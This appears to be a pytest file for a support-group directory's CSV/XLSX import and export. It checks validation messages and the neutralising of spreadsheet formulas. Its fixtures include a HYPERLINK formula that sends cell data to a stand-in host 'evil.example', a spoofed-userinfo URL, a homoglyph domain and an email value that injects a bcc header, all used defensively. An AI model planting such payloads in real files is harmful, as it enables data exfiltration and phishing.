"""The inventory file format: messages that name the real cause, formulas kept inert."""
from __future__ import annotations

import csv
import io
import sqlite3

import pytest

from finder.inventory_file import FORMULA_TRIGGERS, neutralise
from finder.store import Store

from .conftest import group_row, write_inventory

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?d="&A2;"Cliquez ici")',
    "description": "-- une ligne qui commence par des tirets",
    "cost": "+5 € par séance",
    "audience": "@famille",
    "phone": "+32 2 736 99 99",
    # An apostrophe before a formula character marks text in a spreadsheet: the import takes
    # one off, as it does from our own exports ("''=…" is the text "'=…").
    "place_label": "''=déjà précédé d'une apostrophe",
    "schedule": "'t Hofke, chaque lundi",           # an apostrophe that is part of the name
}


def run_import(app, path, *args):
    return app.test_cli_runner().invoke(args=["import", str(path), *args])


def only_group(app):
    store = Store(app.config["DATABASE"])
    try:
        (group,) = store.all_groups()
        return group
    finally:
        store.close()


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


def assert_no_formula(text: str) -> None:
    starting = [c for c in cells(text) if c[:1] in FORMULA_TRIGGERS and c]
    assert starting == [], starting


# -- links, addresses and dates ---------------------------------------------------------------

@pytest.mark.parametrize("column, value, says", [
    ("website", "https://www.cancer.be/groupes de parole", "caractère non permis une espace"),
    ("website", "https://x.be/a\"b", "caractère non permis « \" »"),
    ("source_url", "https://www.cancer.be@evil.example/", "mène en réalité à « evil.example »"),
    ("website", "https://www.cаncer.be/", "mélange plusieurs écritures"),
    ("website", "www.cancer.be", "doit commencer par http:// ou https://"),
    ("email", "info%0Abcc:tous@x.be", "retour à la ligne encodé"),
    ("email", "pour%cent@x.be", "« % » n'est pas permis"),
    ("checked_on", "2026-02-31", "n'est pas une date du calendrier"),
    ("checked_on", "2026-13-01", "n'est pas une date du calendrier"),
    ("checked_on", "01/11/2026", "AAAA-MM-JJ"),
])
def test_an_import_message_names_the_real_cause(app, tmp_path, column, value, says):
    path = write_inventory(tmp_path / "inventaire.csv", [group_row(**{column: value})])
    result = run_import(app, path)
    assert result.exit_code == 1
    assert f"ligne 2, colonne « {column} »" in result.output
    assert says in result.output, result.output
    if column != "checked_on" and "commencer" not in says:
        assert "doit commencer par http" not in result.output


def test_a_real_date_imports(app, tmp_path):
    path = write_inventory(tmp_path / "inventaire.csv", [group_row(checked_on="2024-02-29")])
    assert run_import(app, path).exit_code == 0
    assert only_group(app).checked_on == "2024-02-29"


def test_an_xlsx_formula_without_a_cached_value_is_named_not_called_missing(app, tmp_path):
    import openpyxl
    from finder.inventory_file import COLUMNS
    book = openpyxl.Workbook()            # openpyxl writes formulas but never computes them
    sheet = book.active
    sheet.append(list(COLUMNS))
    row = group_row(name='=CONCATENATE("Groupe ";"Namur")')
    sheet.append([row.get(c, None) for c in COLUMNS])
    book.save(tmp_path / "formules.xlsx")
    result = run_import(app, tmp_path / "formules.xlsx")
    assert result.exit_code != 0
    assert "formule" in result.output and "jamais été calculée" in result.output
    assert "ligne 2, colonne « name »" in result.output and "CONCATENATE" in result.output
    assert "valeur obligatoire manquante" not in result.output


def test_a_database_of_a_newer_schema_is_called_newer_not_uninitialised(tmp_path):
    path = tmp_path / "future.sqlite"
    store = Store(path)
    store.migrate()
    store.close()
    db = sqlite3.connect(path)
    db.execute("PRAGMA user_version = 99")
    db.close()
    store = Store(path)
    try:
        with pytest.raises(Exception) as raised:
            store.check()
    finally:
        store.close()
    assert "version plus récente du logiciel" in str(raised.value)
    assert "non initialisée" not in str(raised.value)


# -- spreadsheet formulas -----------------------------------------------------------------------

@pytest.mark.parametrize("value", [
    "=1+1", "+32 2", "-x", "@x", "\tx", "\rx", "'=x", "''+x", "'t Hofke", "x=y", "", "'",
])
def test_neutralised_cells_come_back_exactly_and_never_start_a_formula(tmp_path, value):
    from finder.inventory_file import _unneutralise
    written = neutralise(value)
    assert written[:1] not in FORMULA_TRIGGERS or not written
    assert _unneutralise(written) == value


def test_the_maintainer_export_is_inert_in_a_spreadsheet_and_round_trips(app, tmp_path):
    path = write_inventory(tmp_path / "hostile.csv", [group_row(**HOSTILE)])
    assert run_import(app, path).exit_code == 0
    before = only_group(app)
    assert before.name == HOSTILE["name"]
    assert before.places[0].label == "'=déjà précédé d'une apostrophe"
    assert before.places[0].schedule == "'t Hofke, chaque lundi"

    exported = tmp_path / "export.csv"
    result = app.test_cli_runner().invoke(args=["export", "-o", str(exported)])
    assert result.exit_code == 0, result.output
    text = exported.read_text(encoding="utf-8")
    assert_no_formula(text)
    assert "'=HYPERLINK(" in text and "''=déjà" in text and '"\'t Hofke' in text

    again = run_import(app, exported)
    assert "0 ajouté(s), 0 mis à jour, 0 retiré(s), 1 inchangé(s)" in again.output, again.output
    assert only_group(app) == before


def test_the_public_csv_is_inert_in_a_spreadsheet_and_imports_back(app, make_app, tmp_path):
    path = write_inventory(tmp_path / "hostile.csv", [group_row(**HOSTILE)])
    assert run_import(app, path).exit_code == 0
    response = app.test_client().get("/api/v1/groups.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert_no_formula(text)
    assert "'=HYPERLINK(" in text and "'+32 2 736 99 99" in text

    public = tmp_path / "public.csv"
    public.write_text(text, encoding="utf-8")
    other = make_app(DATABASE=str(tmp_path / "autre.sqlite"))
    assert run_import(other, public).exit_code == 0
    copy = only_group(other)
    assert (copy.name, copy.phone, copy.cost) == (HOSTILE["name"], HOSTILE["phone"],
                                                 HOSTILE["cost"])


def test_the_api_contract_says_how_formulas_are_neutralised(client):
    operation = client.get("/api/v1/openapi.json").get_json()["paths"]["/api/v1/groups.csv"]["get"]
    assert "apostrophe" in operation["description"] and "=HYPERLINK" in operation["description"]
